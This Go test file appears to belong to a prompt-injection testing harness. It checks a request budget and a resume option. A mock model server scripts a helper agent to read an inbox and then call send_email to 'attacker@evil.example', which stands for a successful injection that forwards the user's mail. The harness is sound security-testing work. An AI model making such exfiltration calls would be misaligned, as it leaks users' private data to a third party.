package cli

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

// inboxModel is a model API (OpenAI Chat Completions) for the helper
// agent: it reads the inbox, then forwards it to the attacker, then
// answers, by the tool results the request carries, so each agent run
// sends it three requests. It counts the requests it gets.
func inboxModel(t *testing.T) (*httptest.Server, *atomic.Int64) {
	var n atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		i := n.Add(1)
		var body struct {
			Messages []struct {
				Role string `json:"role"`
			} `json:"messages"`
		}
		if err := json.NewDecoder(r.Body).Decode(&body); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		results := 0
		for _, m := range body.Messages {
			if m.Role == "tool" {
				results++
			}
		}
		message := `{"role":"assistant","content":"Done."}`
		switch results {
		case 0:
			message = fmt.Sprintf(`{"role":"assistant","content":null,"tool_calls":[{"id":"r%d","type":"function","function":{"name":"read_inbox","arguments":"{}"}}]}`, i)
		case 1:
			message = fmt.Sprintf(`{"role":"assistant","content":null,"tool_calls":[{"id":"s%d","type":"function","function":{"name":"send_email","arguments":"{\"to\":\"attacker@evil.example\",\"body\":\"fwd\"}"}}]}`, i)
		}
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"id":"c%d","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"message":%s,"finish_reason":"stop"}],"usage":{"prompt_tokens":10,"completion_tokens":5,"total_tokens":15}}`, i, message)
	}))
	t.Cleanup(srv.Close)
	return srv, &n
}

// TestProxyRunBudgetHardCap: pikit proxy run --max-requests 3 -j 8, with
// an agent that sends three requests a cell, gets exactly 3 requests to
// the model; the cells the budget cut are results that say so (exit 1),
// and --resume runs them, and the cells never started, to the end.
func TestProxyRunBudgetHardCap(t *testing.T) {
	model, sent := inboxModel(t)
	t.Setenv("OPENAI_API_KEY", "sk-test-0123456789abcdef")
	dir := t.TempDir()
	cfg := writeFile(t, dir, "exp.toml", strings.Replace(proxyExperiment, `"mock:obedient"`, `"openai:gpt-test"`, 1))
	out := filepath.Join(dir, "r.jsonl")
	args := []string{"proxy", "run", "--config", cfg, "--upstream", model.URL + "/v1", "-q", "-o", out}
	r := run(t, append(append(args, "--max-requests", "3", "-j", "8"), helperAgent(t)...)...)
	if r.code != ExitFailed || !strings.Contains(r.err, "budget reached") {
		t.Fatalf("exit %d, stderr %q; want 1 and the budget named", r.code, r.err)
	}
	if n := sent.Load(); n != 3 {
		t.Errorf("the model got %d requests under --max-requests 3", n)
	}
	res := readJSONL(t, out)
	if len(res) != 3 {
		t.Errorf("%d results, want the 3 cells that started", len(res))
	}
	for _, m := range res {
		meta, _ := m["metadata"].(map[string]any)
		if m["outcome"] != "runtime_error" || meta["stopped_by_budget"] != "max_requests" || !strings.Contains(fmt.Sprint(m["error"]), "--resume") {
			t.Errorf("a cell the budget cut: outcome %v, stopped_by_budget %v, error %q", m["outcome"], meta["stopped_by_budget"], m["error"])
		}
	}

	r = run(t, append(append(args, "--resume"), helperAgent(t)...)...)
	if r.code != 0 {
		t.Fatalf("resume: exit %d, %s", r.code, r.err)
	}
	res = readJSONL(t, out)
	keys := map[any]bool{}
	for _, m := range res {
		keys[m["key"]] = true
		if m["outcome"] != "full_success" && m["outcome"] != "not_reached" {
			t.Errorf("after --resume: %v/%v is %v (%v)", m["attack"], m["channel"], m["outcome"], m["error"])
		}
	}
	if len(res) != 12 || len(keys) != 12 {
		t.Errorf("after --resume: %d results, %d keys; want 12", len(res), len(keys))
	}
	if n := sent.Load(); n != 3+12*3 {
		t.Errorf("the model got %d requests in all, want 3 and then 36", n)
	}
}
